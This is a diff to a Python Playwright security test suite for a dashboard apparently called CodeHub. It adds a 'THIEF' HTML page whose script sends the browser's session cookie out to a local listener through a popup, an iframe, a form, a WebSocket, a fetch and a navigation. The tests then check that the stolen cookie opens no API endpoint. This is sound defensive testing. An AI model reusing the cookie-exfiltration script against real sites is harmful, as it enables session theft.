@@ -2,6 +2,11 @@
 
 from __future__ import annotations
 
+import asyncio
+import contextlib
+from collections.abc import AsyncIterator
+
+import httpx
 import pytest
 from playwright.async_api import BrowserContext
 
@@ -14,6 +19,11 @@ async def sign_in(here: World, context: BrowserContext) -> None:
     """As after signing in at the dashboard."""
     secret = here.owner.cookies["session"]
     await context.add_cookies([{"name": "session", "value": secret, "url": here.settings.public_url}])
+    page = await context.new_page()
+    await page.goto(f"{here.settings.public_url}/health")
+    key = here.owner.headers["X-CodeHub-Session-Key"]
+    await page.evaluate("key => localStorage.setItem('codehub.session_key', key)", key)
+    await page.close()
 
 
 HOSTILE = """<!doctype html><title>hostile</title><script>
@@ -71,3 +81,72 @@ async def test_a_hostile_page_reaches_neither_the_api_nor_the_session_nor_anothe
             row = await (await tx.execute("SELECT count(*) AS n FROM workspaces WHERE name = 'evil'")).fetchone()
         assert row is not None
         assert row["n"] == 0
+
+
+THIEF = """<!doctype html><title>thief</title><body><script>
+const to = "%(listener)s";
+open(to + "/popup");
+const frame = document.createElement("iframe"); frame.src = to + "/frame"; document.body.append(frame);
+const form = document.createElement("form");
+form.action = to + "/form"; form.method = "post"; form.target = "_blank"; document.body.append(form); form.submit();
+try { new WebSocket(to.replace("http", "ws") + "/socket"); } catch {}
+fetch(to + "/fetch", {credentials: "include", mode: "no-cors"}).finally(() => { location = to + "/navigation"; });
+</script></body>"""
+
+
+@contextlib.asynccontextmanager
+async def listener() -> AsyncIterator[tuple[str, dict[str, str]]]:
+    """A program on another port of the dashboard's host: its address, and what it heard, by path."""
+    heard: dict[str, str] = {}
+
+    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        with contextlib.suppress(asyncio.IncompleteReadError, OSError):
+            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
+            heard[head.split()[1]] = head
+            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
+            await writer.drain()
+        writer.close()
+
+    async with await asyncio.start_server(answer, "127.0.0.1", 0) as server:
+        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", heard
+
+
+@pytest.mark.timeout(300)
+@pytest.mark.parametrize("host_pattern", ["", "*.localhost"], ids=["path mode", "host mode"])
+async def test_what_a_listener_beside_the_dashboard_hears_opens_nothing(
+    database: Database, browser_context: BrowserContext, host_pattern: str
+) -> None:
+    """Cookies know no ports: the browser gives the session's to whoever listens on the dashboard's host."""
+    async with world(database, for_browsers=True, host_pattern=host_pattern) as here, listener() as (address, heard):
+        workspace_id = await here.workspace()
+        body = (THIEF % {"listener": address}).encode()
+
+        def thief(peer: Peer) -> None:
+            while True:
+                peer.read_message()
+                peer.send(
+                    b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(body) + body
+                )
+
+        here.upstream.script = thief
+        await sign_in(here, browser_context)
+        page = await browser_context.new_page()
+        await page.goto(f"http://{here.authority(workspace_id)}/w/{workspace_id}/")
+        await page.wait_for_url(f"{address}/navigation")
+        secret, key = here.owner.cookies["session"], here.owner.headers["X-CodeHub-Session-Key"]
+        stolen = [path for path, head in heard.items() if f"session={secret}" in head]
+        assert "/navigation" in stolen, (
+            "the browser gives the cookie away; if it did not, this test would show nothing"
+        )
+        assert not any(key in head for head in heard.values())
+        assert await page.evaluate("localStorage.getItem('codehub.session_key')") is None
+        with_cookie = {"Cookie": f"session={secret}"}
+        async with httpx.AsyncClient(base_url=here.settings.public_url, headers=with_cookie) as stranger:
+            for path in ("session", "workspaces", "tokens", "events", "sessions"):
+                assert (await stranger.get(f"/api/v1/{path}")).status_code == 401, path
+            assert (await stranger.post("/api/v1/tokens", json={"name": "for ever"})).status_code == 401
+            ticket = {"nonce": "0" * 64, "next": ""}
+            opened = await stranger.post(f"/api/v1/workspaces/{workspace_id}/handover", json=ticket)
+            assert opened.status_code == 401
+            page_of = await stranger.get(f"/handover/{workspace_id}?nonce={'0' * 64}")
+            assert "codehub_ticket" not in page_of.text
